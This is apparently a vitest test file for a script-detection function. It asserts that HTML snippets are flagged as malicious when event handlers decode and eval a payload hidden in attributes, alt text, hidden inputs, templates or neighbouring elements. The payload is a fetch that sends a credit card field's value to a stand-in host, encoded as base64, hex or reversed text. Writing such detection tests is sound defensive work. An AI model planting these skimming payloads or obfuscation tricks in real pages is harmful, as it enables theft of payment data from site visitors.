// Code in a handler is followed into its element: attributes, texts, and neighbors in the page.
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'

const theft = `fetch('https://seen-often.example/v',{method:'POST',body:document.querySelector('#cc-number').value})`
const hidden = btoa(theft)
const hex = [...theft].map((one) => one.charCodeAt(0).toString(16).padStart(2, '0')).join('')
const backwards = [...theft].reverse().join('')

const verdict = (html: string) => judgeScript(html).verdict

describe('a handler that runs text from elsewhere in the page', () => {
  it.each([
    ['dataset', `<img src="x" data-cfg-text="${hidden}" onerror="eval(atob(this.dataset.cfgText))">`],
    ['getAttribute', `<img src=x data-q='${hidden}' onerror="new Function(atob(this.getAttribute('data-q')))()">`],
    ['alt', `<img src=x alt="${hidden}" onerror="setTimeout(atob(alt))">`],
    ['title of the event’s target', `<img src=x title="${hidden}" onerror="eval(atob(event.target.title))">`],
    ['src', `<img src="data:image/gif,${hidden}" onerror="eval(atob(this.src.split(',')[1]))">`],
    ['a list of attributes', `<img src=x data-m="${hidden}" onerror="eval(atob(this.attributes['data-m'].value))">`],
    ['an attribute node', `<svg data-m="${hidden}" onload="eval(atob(this.getAttributeNode('data-m').value))"></svg>`],
    [
      'hexadecimal',
      `<img src=x alt="${hex}" onerror="eval(this.alt.replace(/../g, function (b) { return String.fromCharCode(parseInt(b, 16)) }))">`,
    ],
    [
      'the text of another element',
      `<p id="note">${hidden}</p><img src=x onerror="eval(atob(document.getElementById('note').textContent))">`,
    ],
    [
      'a hidden field',
      `<input type="hidden" name="state" value="${hidden}"><img src=x onerror="eval(atob(document.querySelector('input[name=state]').value))">`,
    ],
    [
      'a template',
      `<template class="row">${hidden}</template><body onload="eval(atob(document.querySelector('template.row').innerHTML))">`,
    ],
    ['the next element', `<img src=x onerror="eval(atob(this.nextElementSibling.textContent))"><span>${hidden}</span>`],
    [
      'jQuery',
      `<div id="cfg" data-v="${hidden}"></div><img src=x onerror="jQuery.globalEval(atob($('#cfg').attr('data-v')));eval(atob($('#cfg').data('v')))">`,
    ],
    ['a script', `<div id="cfg" data-v="${hidden}"></div><script>eval(atob(document.querySelector('#cfg').dataset.v))</script>`],
    [
      'a function of another script',
      `<script>function go(one) { eval(atob(one.dataset.v)) }</script><img src=x data-v="${hidden}" onerror="go(this)">`,
    ],
    ['its own script element', `<script data-v="${hidden}">eval(atob(document.currentScript.dataset.v))</script>`],
    [
      'a drawing',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="eval(this.dataset.v.split('').reverse().join(''))" data-v="${backwards.replaceAll('"', '&quot;')}"></svg>`,
    ],
  ])('is malicious by %s', (_name, html) => {
    expect(verdict(`<!doctype html><html><body>${html}</body></html>`)).toBe('malicious')
  })

  it('is malicious in markup that a script writes', () => {
    expect(verdict(`document.body.innerHTML += '<img src=x data-k="${hidden}" onerror="eval(atob(this.dataset.k))">'`)).toBe('malicious')
  })

  it.each([
    ['shows a picture later', `<img src="small.png" data-full="large.png" onload="this.src = this.dataset.full">`],
    ['hides a picture that failed', `<img src="a.png" alt="Logo" onerror="this.onerror=null;this.style.display='none'">`],
    ['tells what it is', `<button data-sku="A-1" onclick="dataLayer.push({ event: 'add', sku: this.dataset.sku })">Add</button>`],
  ])('is benign if it %s', (_name, html) => {
    expect(verdict(html)).toBe('benign')
  })
})
